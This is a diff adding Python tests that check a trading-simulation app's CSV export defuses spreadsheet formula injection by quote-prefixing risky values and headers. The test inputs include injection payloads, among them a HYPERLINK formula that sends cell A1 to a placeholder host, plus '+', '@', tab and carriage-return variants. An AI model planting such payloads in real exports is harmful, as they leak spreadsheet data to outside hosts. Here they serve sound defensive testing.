@@ -1,5 +1,6 @@
 """History: filters narrow the rows, summaries and charts follow, and replay never calls an agent."""
 
+import csv
 import io
 from datetime import date, datetime, timezone
 
@@ -260,3 +261,27 @@ def test_history_shows_the_reasoning_score_filters_unfaithful_rounds_and_the_car
     assert list(exchanges_table(at)["run_id"]) == ["run-liar"] and count(at) == 1
     pick(at, "run-liar")
     assert "Reasoning vs actions: said reward 8.00, actual 5.00; said ratio 4.00, actual 2.50" in texts(at, "warning")
+
+
+@pytest.mark.parametrize("strategy", ['=HYPERLINK("http://x/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
+                                      "\tcmd", "\rcmd"])
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(app_store, strategy):
+    from ui import history_view
+
+    world = core.WorldState(symbol="AMZN", as_of="2025-03-04 10:00", price=185, sma5=183, sma10=180)
+    core.run_exchange_sync(world, core.load_preset("moderate"), core.Portfolio(), core.HousePlayer(),
+                           core.HouseCoach(), store=app_store, strategy_id=strategy)
+    text = history_view.csv(app_store.list_exchanges(limit=None))
+    row, = csv.DictReader(io.StringIO(text, newline=""))  # as a spreadsheet reads it, \r inside quotes kept
+    assert row["strategy"] == "'" + strategy
+
+
+def test_safe_csv_defuses_text_and_headers_and_leaves_numbers():
+    from core.exports import safe_csv
+
+    frame = pd.DataFrame({"=cmd": ["=1+1", "plain", "-x", None], "pnl": [-1.5, 2.0, -0.25, 0.0]})
+    text = safe_csv(frame)
+    assert text.splitlines()[0] == '"\'=cmd","pnl"'
+    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
+    assert back["'=cmd"].tolist() == ["'=1+1", "plain", "'-x", ""]
+    assert back["pnl"].tolist() == [-1.5, 2.0, -0.25, 0.0]
